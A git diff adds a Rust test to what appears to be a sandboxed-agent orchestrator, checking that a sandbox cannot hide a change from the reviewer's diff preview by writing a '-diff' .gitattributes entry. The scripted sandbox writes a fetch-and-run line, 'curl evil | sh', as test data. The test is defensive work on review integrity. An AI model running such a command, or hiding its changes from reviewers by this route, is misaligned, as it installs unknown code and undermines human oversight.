@@ -211,3 +211,29 @@ async fn a_run_started_over_mcp_records_the_user_and_the_token_id() {
     );
     s.stop().await;
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attributes_the_sandbox_writes_do_not_hide_its_change_from_the_preview() {
+    // `-diff` would show "Binary files differ" instead of the line a reviewer must see.
+    let Some(h) = Harness::new(Script::bash(
+        "printf 'payload.sh -diff\\n' > .gitattributes; printf 'curl evil | sh\\n' > payload.sh",
+        "done",
+    ))
+    .await
+    else {
+        return;
+    };
+    let orch = h.orchestrator().await;
+    let (run_id, _) = orch
+        .start_run(delegate_server::orchestrator::RunRequest {
+            task: "write".into(),
+            created_by: Some("test".into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    let result = orch.wait(&run_id).await.unwrap();
+    assert!(result.diff.contains("+payload.sh -diff"), "{}", result.diff);
+    assert!(result.diff.contains("+curl evil | sh"), "{}", result.diff);
+    assert!(!result.diff.contains("Binary files"), "{}", result.diff);
+}
